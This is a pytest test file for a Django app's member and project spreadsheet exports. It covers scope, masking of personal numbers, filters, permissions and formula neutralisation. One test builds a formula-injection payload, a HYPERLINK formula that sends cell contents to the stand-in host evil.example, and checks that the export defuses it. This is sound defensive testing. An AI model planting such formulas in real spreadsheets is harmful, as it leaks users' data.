"""Exports (members.exports): the member and project lists as .xlsx and .csv, with the list's
filters and the user's scope, personal data masked outside the member's own federation's
staff, and every cell that a spreadsheet would run as a formula neutralised."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cooperation.models import Pillar
from members.spreadsheets import FORMULA_STARTS
from tests.cooperation.factories import ProjectFactory
from tests.factories import AgreementFactory, MemberFactory

pytestmark = pytest.mark.django_db

MEMBERS = reverse("members:export")
PROJECTS = reverse("cooperation:projects_export")


@pytest.fixture(autouse=True)
def english(client):
    """Headers in English, to name the columns; one test asks for Chinese."""
    client.cookies["django_language"] = "en"


def table(response):
    """The exported rows, from either format."""
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if response["Content-Type"].startswith("text/csv"):
        assert content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with a BOM
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [["" if c is None else c for c in row] for row in sheet.iter_rows(values_only=True)]


def by_card(rows):
    header = rows[0]
    return {row[1]: dict(zip(header, row, strict=True)) for row in rows[1:]}


@pytest.fixture
def members(hz_member, nb_member, wz_member):
    return hz_member, nb_member, wz_member


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_staff_see_their_own_members_in_full_and_partners_masked(client, hz_staff, members, fmt):
    client.force_login(hz_staff)
    rows = by_card(table(client.get(MEMBERS, {"as": fmt})))
    assert set(rows) == {"HZ0000001", "NB0000001"}  # 温州 is outside the scope
    own, partner = rows["HZ0000001"], rows["NB0000001"]
    assert own["Resident ID number"] == "11010519491231002X"
    assert own["Mobile number"] == "13812345678"
    nb_member = members[1]
    assert partner["Resident ID number"] == nb_member.masked_id_number
    assert partner["Mobile number"] == nb_member.masked_mobile
    assert nb_member.id_number not in str(rows)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_leaders_see_every_number_masked(client, hz_leader, members, fmt):
    client.force_login(hz_leader)
    rows = by_card(table(client.get(MEMBERS, {"as": fmt})))
    assert rows["HZ0000001"]["Resident ID number"] == "1101**********002X"
    assert rows["HZ0000001"]["Mobile number"] == "138****5678"


def test_the_outsider_exports_only_their_own(client, wz_staff, members):
    client.force_login(wz_staff)
    rows = by_card(table(client.get(MEMBERS)))
    assert set(rows) == {"WZ0000001"}


def test_the_export_follows_the_lists_filters(client, hz_staff, members, hz_org):
    MemberFactory(organisation=hz_org, name="骑手甲", employment_form="delivery_rider")
    client.force_login(hz_staff)
    assert set(by_card(table(client.get(MEMBERS, {"federation": "NB"})))) == {"NB0000001"}
    rows = by_card(table(client.get(MEMBERS, {"employment_form": "delivery_rider", "as": "csv"})))
    assert [row["Name"] for row in rows.values()] == ["骑手甲"]
    assert set(by_card(table(client.get(MEMBERS, {"q": "张伟"})))) == {"HZ0000001"}


def test_the_headers_are_in_the_users_language(client, hz_staff, members):
    client.force_login(hz_staff)
    client.cookies["django_language"] = "zh-hans"
    rows = table(client.get(MEMBERS, {"as": "csv"}))
    assert rows[0][:2] == ["姓名", "会员卡号"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formulas_are_neutralised(client, hz_staff, hz_org, start, fmt):
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    MemberFactory(organisation=hz_org, name=evil, card_number="EVIL1")
    client.force_login(hz_staff)
    rows = by_card(table(client.get(MEMBERS, {"as": fmt})))
    expected = "'" + evil
    if fmt == "xlsx":
        expected = expected.replace("\r", "\n")  # XML reads a carriage return back as \n
    assert rows["EVIL1"]["Name"] == expected


def test_a_project_title_cannot_be_a_formula(client, hz_staff, hz, nb, agreement):
    Pillar.objects.ensure()
    ProjectFactory(agreement=agreement, lead_federation=hz, title="=1+2", partners=[nb])
    client.force_login(hz_staff)
    rows = table(client.get(PROJECTS, {"as": "csv"}))
    assert rows[1][0] == "'=1+2"


def test_projects_follow_scope_and_filters(client, hz_staff, hz, nb, wz, agreement):
    Pillar.objects.ensure()
    ProjectFactory(agreement=agreement, lead_federation=hz, title="杭州牵头", partners=[nb])
    ProjectFactory(
        agreement=agreement, lead_federation=nb, title="宁波牵头", partners=[hz], status="completed"
    )
    ProjectFactory(agreement=AgreementFactory(parties=[wz]), lead_federation=wz, title="温州")
    client.force_login(hz_staff)
    titles = [row[0] for row in table(client.get(PROJECTS))[1:]]
    assert sorted(titles) == ["宁波牵头", "杭州牵头"]
    titles = [row[0] for row in table(client.get(PROJECTS, {"status": "completed"}))[1:]]
    assert titles == ["宁波牵头"]


@pytest.mark.parametrize("url", [MEMBERS, PROJECTS])
def test_judges_may_not_export_and_visitors_sign_in(client, hz_judge, url):
    assert client.get(url).url.startswith(reverse("login"))
    client.force_login(hz_judge)
    assert client.get(url).status_code == 403


def test_the_member_export_reads_in_a_constant_number_of_queries(
    client, hz_staff, hz_org, nb_org, django_assert_max_num_queries
):
    for n in range(30):
        MemberFactory(organisation=hz_org if n % 2 else nb_org)
    client.force_login(hz_staff)
    with django_assert_max_num_queries(8):
        rows = table(client.get(MEMBERS, {"as": "csv"}))
    assert len(rows) == 31
